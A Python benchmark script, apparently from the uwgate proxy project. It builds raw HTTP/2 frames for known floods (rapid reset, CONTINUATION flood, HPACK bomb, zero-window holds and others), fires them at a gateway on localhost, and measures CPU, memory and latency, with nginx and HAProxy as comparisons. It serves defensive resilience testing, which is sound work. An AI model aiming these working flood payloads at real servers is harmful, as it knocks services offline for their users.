"""``python -m benchmarks.http2_abuse``: each known flood of HTTP/2 for a while, and a good client.

Figures of each: CPU seconds of the gateway, without those for the good client, for each that the
attacker spends, and as a part of a core; what the gateway's memory grows by; and the 99th
percentile of the good client's responses beside that of a calm time. The attacker comes back as
soon as it is thrown out. With
``--proxies`` nginx and HAProxy stand the same, to compare.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import itertools
import os
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from benchmarks.http2 import proxy
from benchmarks.measured import Figure
from benchmarks.origins import start_http_origin
from benchmarks.procs import Process, StartError, cores, cpu_nanos, family, on_core, rss_bytes
from benchmarks.rolling_client import quantile
from benchmarks.tools import find_tools

MOST_CPU = 1.0  # core-seconds for each of the attacker
MOST_GROWTH = 32.0  # MB
MOST_DELAY = 3.0  # times the 99th percentile of a calm time
_EVERY = 0.01  # seconds between requests of the good client
_HELD = 10  # connections at a time of attacks that wait
_REPEATED = 400  # frames a write
_TOGETHER = 100  # streams

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW = 0, 1, 2, 3, 4, 6, 8
_GOAWAY, _CONTINUATION = 7, 9
# GET / of "h", by entries of the static table and a literal
_GET = b"\x82\x86\x84\x01\x01h"
_POST = b"\x83\x86\x84\x01\x01h"
_LARGE = b"\x82\x86\x04\x08/body/1m\x01\x01h"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">LBL", len(payload) << 8 | kind, flags, stream) + payload


def _numbered(make: Callable[[int], bytes], count: int = _REPEATED) -> bytes:
    return b"".join(make(2 * number + 1) for number in range(count))


def _long_list(stream: int) -> bytes:
    """Of more than 32 KB."""
    field = b"\x00\x01x\x7f\xa1\x7b" + b"y" * 15_904
    return (
        frame(_HEADERS, 1, stream, _GET + field)
        + frame(_CONTINUATION, 0, stream, field)
        + frame(_CONTINUATION, 4, stream, field)
    )


def _made_to_reset(stream: int) -> bytes:
    return frame(_HEADERS, 4, stream, _POST) + frame(_WINDOW, 0, stream, bytes(4))


def _bomb() -> bytes:
    """An entry of the dynamic table that fills it, and thousands of references."""
    entry = frame(_HEADERS, 5, 1, _GET + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000)
    return entry + frame(_HEADERS, 5, 3, _GET + b"\xbe" * 16_000)


# What a connection sends behind its SETTINGS, over and over; once, where it waits then.
FLOODS: dict[str, bytes] = {
    "ping": frame(_PING, 0, 0, bytes(8)) * _REPEATED,
    "settings": frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 65535) * 2_000) * 4,
    "priority": frame(_PRIORITY, 0, 1, struct.pack(">LB", 3, 1)) * _REPEATED,
    "window-update": frame(_WINDOW, 0, 0, struct.pack(">L", 1)) * _REPEATED,
    "empty-data": frame(_HEADERS, 4, 1, _POST) + frame(_DATA, 0, 1) * _REPEATED,
    "rapid-reset": _numbered(
        lambda stream: frame(_HEADERS, 5, stream, _GET) + frame(_RST, 0, stream, b"\0\0\0\x08")
    ),
    "made-you-reset": _numbered(_made_to_reset),
    "continuation": frame(_HEADERS, 0, 1, _GET) + frame(_CONTINUATION, 0, 1) * _REPEATED,
    "bomb": _bomb(),
    "long-list": _numbered(_long_list, 8),
    "even-streams": frame(_HEADERS, 5, 2, _GET),
}
WAITING: dict[str, bytes] = {
    "zero-window": frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 0))
    + b"".join(frame(_HEADERS, 5, 2 * n + 1, _LARGE) for n in range(_TOGETHER)),
    "open-bodies": b"".join(frame(_HEADERS, 4, 2 * n + 1, _POST) for n in range(_TOGETHER)),
}

# The origin answers them without their bodies: to compare, without a limit.
_SERVED = frozenset(("open-bodies",))


def attack(name: str, port: int, until: float) -> None:
    """Until that time (monotonic seconds)."""
    waiting = name in WAITING
    data = WAITING[name] if waiting else FLOODS[name]
    kept: list[socket.socket] = []
    while time.monotonic() < until:
        sock = socket.create_connection(("127.0.0.1", port), 5)
        kept.append(sock)
        with contextlib.suppress(OSError):
            sock.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
            sock.sendall(data)
            sock.settimeout(0.05 if waiting else 1.0)
            while not waiting and time.monotonic() < until:
                sock.sendall(data)
        if len(kept) > (_HELD if waiting else 0):
            kept.pop(0).close()
        if waiting:
            time.sleep(0.05)
    for sock in kept:
        sock.close()


def _receive(reader: io.BufferedReader, stream: int) -> None:
    """Frames up to the end of that stream."""
    while True:
        head = reader.read(9)
        if len(head) < 9:
            raise StartError("the good client was thrown out")
        long, number = struct.unpack_from(">L", head)[0], struct.unpack_from(">L", head, 5)[0]
        size, kind, flags = long >> 8, head[3], head[4]
        reader.read(size)
        if kind in (_RST, _GOAWAY):
            raise StartError(f"the good client got a frame of type {kind}")
        if number == stream and flags & 1 and kind in (_DATA, _HEADERS):
            return


def ask(port: int, until: float) -> list[float]:
    """Seconds that each response took; asked at fixed times."""
    took = []
    with socket.create_connection(("127.0.0.1", port), 10) as sock, sock.makefile("rb") as reader:
        sock.sendall(_PREFACE + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, 1, 0))
        due = time.monotonic()
        for stream in itertools.count(1, 2):
            if due >= until:
                break
            time.sleep(max(0.0, due - time.monotonic()))
            sock.sendall(frame(_HEADERS, 5, stream, _GET))
            _receive(reader, stream)
            took.append(time.monotonic() - due)
            due += _EVERY
    return took


def measure(
    name: str, proxied: str, gateway: Process, port: int, seconds: float, core: int
) -> Iterator[Figure]:
    """The figures of one attack."""
    title = f"{proxied}, {name}"
    pids, rest = family(gateway.pid), min(seconds, 5.0)
    ask(port, time.monotonic() + 0.5)
    nanos = cpu_nanos(pids)
    calm = quantile(ask(port, time.monotonic() + rest), 0.99)
    served = (cpu_nanos(pids) - nanos) / 1e9 / rest  # a second, for the good client
    memory, nanos = rss_bytes(pids), cpu_nanos(pids)
    words = [sys.executable, "-m", "benchmarks.http2_abuse", "--attack", name, str(port)]
    with on_core(core), subprocess.Popen([*words, str(seconds)], stdout=subprocess.PIPE) as other:
        took = ask(port, time.monotonic() + seconds)
        grown = rss_bytes(pids) - memory
        said, _ = other.communicate(timeout=60)
        spent = max(0.0, (cpu_nanos(pids) - nanos) / 1e9 - served * seconds)
    own = float(said)
    held = name not in _SERVED
    cpu, growth, delay = (limit if held else None for limit in (MOST_CPU, MOST_GROWTH, MOST_DELAY))
    yield Figure(f"{title}: CPU", spent / own, "s/s", cpu, note=f"{spent:.2f} of {own:.2f} s")
    yield Figure(f"{title}: CPU", spent / seconds, "of a core")
    yield Figure(f"{title}: memory", grown / 1e6, "MB", growth)
    late = quantile(took, 0.99)
    note = f"{late * 1e3:.2f} ms, calm {calm * 1e3:.2f}"
    yield Figure(f"{title}: p99", late / calm, "times calm", delay, note=note)


def main(argv: list[str] | None = None) -> int:
    """Exit code 1 if a limit was not kept, 2 if something is missing."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.http2_abuse", description=__doc__)
    names = [*FLOODS, *WAITING]
    parser.add_argument("--only", default=",".join(names), help="names, with commas")
    parser.add_argument("--seconds", type=float, default=20.0, help="length of an attack (20)")
    parser.add_argument("--proxies", default="uwgate", help="of uwgate,nginx,haproxy")
    parser.add_argument("--attack", nargs=3, help=argparse.SUPPRESS)
    options = parser.parse_args(argv)
    if options.attack:
        name, port, seconds = options.attack
        os.nice(5)  # the good client is on the same core
        attack(name, int(port), time.monotonic() + float(seconds))
        usage = resource.getrusage(resource.RUSAGE_SELF)
        print(usage.ru_utime + usage.ru_stime)
        return 0
    chosen = options.only.split(",")
    if unknown := set(chosen) - set(names):
        parser.error(f"no attack is called {', '.join(unknown)}; there are {', '.join(names)}")
    tools, kept = find_tools(), True
    proxy_core, other_core = cores()
    try:
        with tempfile.TemporaryDirectory(prefix="uwgate-abuse-") as directory, on_core(other_core):
            origin, node = start_http_origin(tools, Path(directory) / "origin", other_core)
            with origin:
                for name, each in itertools.product(chosen, options.proxies.split(",")):
                    where = Path(directory) / each / name
                    with proxy(tools, each, where, proxy_core, node, None) as (gateway, port):
                        seconds = options.seconds
                        for figure in measure(name, each, gateway, port, seconds, other_core):
                            kept &= figure.kept
                            print(figure.text, flush=True)
    except StartError as error:
        print(error, file=sys.stderr)
        return 2
    return 0 if kept else 1


if __name__ == "__main__":
    sys.exit(main())
